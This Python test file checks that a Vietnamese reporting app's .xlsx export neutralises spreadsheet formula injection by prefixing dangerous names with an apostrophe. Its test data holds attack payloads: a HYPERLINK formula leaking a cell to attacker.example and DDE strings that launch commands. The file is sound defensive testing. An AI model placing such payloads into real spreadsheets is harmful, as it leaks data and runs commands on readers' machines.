"""Formula injection in the .xlsx export (issue 11, Medium 9): unit, officer, procedure and
field names come from administrators and officers, and a name starting with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return must reach the spreadsheet as text that no
spreadsheet program evaluates — not as a formula (``=HYPERLINK(…)`` sends the reader to an
attacker's page, DDE payloads run commands). Every text cell is a string cell, and a
dangerous first character is neutralised the way OWASP recommends (a leading apostrophe)."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import pytest
from openpyxl import load_workbook

from chalicelib.domain.calendar import VN_TZ
from chalicelib.reports import exports
from chalicelib.reports.report import Figures, Report, ReportQuery, Row

HYPERLINK = '=HYPERLINK("https://attacker.example/?leak="&A1,"Bấm để xem chi tiết")'
PAYLOADS = (
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def _report(scope_name: str, labels: tuple[str, ...]) -> Report:
    return Report(
        title="Báo cáo tình hình giải quyết hồ sơ",
        scope="unit",
        scope_code="000.00.13.H29",
        scope_name=scope_name,
        query=ReportQuery(period_from="2026-07", period_to="2026-07", group="officer", officer=labels[0]),
        months=["2026-07"],
        group_label="Cán bộ",
        total=Figures(total=len(labels)),
        rows=[Row(key=f"k{i}", label=label, figures=Figures(total=1, late=-1 if i == 0 else 0))
              for i, label in enumerate(labels)],
        generated_at=dt.datetime(2026, 7, 31, 9, 0, tzinfo=VN_TZ),
    )


def _cells(data: bytes) -> list:
    sheet = load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_no_cell_of_the_export_is_a_formula_whatever_the_names() -> None:
    data = exports.xlsx(_report(HYPERLINK, PAYLOADS))
    cells = _cells(data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    texts = [c for c in cells if isinstance(c.value, str)]
    assert texts and all(c.data_type == "s" for c in texts)


@pytest.mark.parametrize("payload", PAYLOADS, ids=["hyperlink", "plus", "minus", "at", "tab", "cr"])
def test_each_dangerous_first_character_is_neutralised_and_the_name_kept(payload: str) -> None:
    cells = _cells(exports.xlsx(_report(payload, (payload,))))
    (label,) = [c for c in cells if c.column == 1 and isinstance(c.value, str) and c.value.endswith(payload)
                and c.value.removesuffix(payload) in ("", "'")]
    assert label.data_type == "s"
    assert label.value == "'" + payload  # readable, and inert when copied to CSV or retyped
    heading = [c.value for c in cells if isinstance(c.value, str) and c.value.startswith("Đơn vị")]
    assert heading and payload in heading[0]  # the unit's name inside the heading line is kept whole


def test_numbers_stay_numbers_and_plain_names_are_untouched() -> None:
    cells = _cells(exports.xlsx(_report("UBND phường Bến Nghé", ("Nguyễn Văn An", "Chưa phân công"))))
    values = [c.value for c in cells]
    assert "Nguyễn Văn An" in values and "Chưa phân công" in values
    negative = [c for c in cells if c.value == -1]
    assert negative and negative[0].data_type == "n"  # a negative figure is a number, not escaped text


def test_neutralised_handles_every_owasp_trigger_and_nothing_else() -> None:
    for first in ("=", "+", "-", "@", "\t", "\r"):
        assert exports.neutralised(first + "x") == "'" + first + "x"
    for safe in ("x=1", "Tổng cộng", "—", "", "'already"):
        assert exports.neutralised(safe) == safe
